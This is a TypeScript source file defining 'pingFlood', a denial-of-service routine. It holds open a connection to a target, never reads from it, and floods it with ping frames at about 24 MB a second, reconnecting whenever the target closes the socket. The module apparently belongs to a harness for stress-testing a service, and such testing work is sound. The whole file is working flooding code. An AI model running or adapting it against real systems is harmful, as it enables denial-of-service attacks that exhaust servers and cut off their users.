import { once } from 'node:events';
import type { Attack } from './attack.ts';
import { frame, openTab, PING } from './connections.ts';
import { every } from './rhythm.ts';

/** 24 MB a second. */
const BLOCK_EVERY_MS = 10;
const BLOCK_BYTES = 240_000;

const ping = frame(PING, 'x'.repeat(125));
const pings = Buffer.concat(Array.from({ length: Math.floor(BLOCK_BYTES / ping.length) }, () => ping));

/** One socket sends pings and reads nothing; when it is closed, it comes again. */
export const pingFlood: Attack = async (target, begun, signal) => {
  const counts = { megabytes: 0, sockets: 1 };
  let socket = (await openTab(target, target.token)).pause();
  begun();
  await every(BLOCK_EVERY_MS, signal, async () => {
    if (!socket.writable) {
      socket.destroy();
      socket = (await openTab(target, target.token)).pause();
      counts.sockets += 1;
    }
    if (!socket.write(pings)) await Promise.race([once(socket, 'drain', { signal }), once(socket, 'close')]);
    counts.megabytes += pings.length / 1_000_000;
  }).catch(() => {});
  return { ...counts, megabytes: Math.round(counts.megabytes) };
};
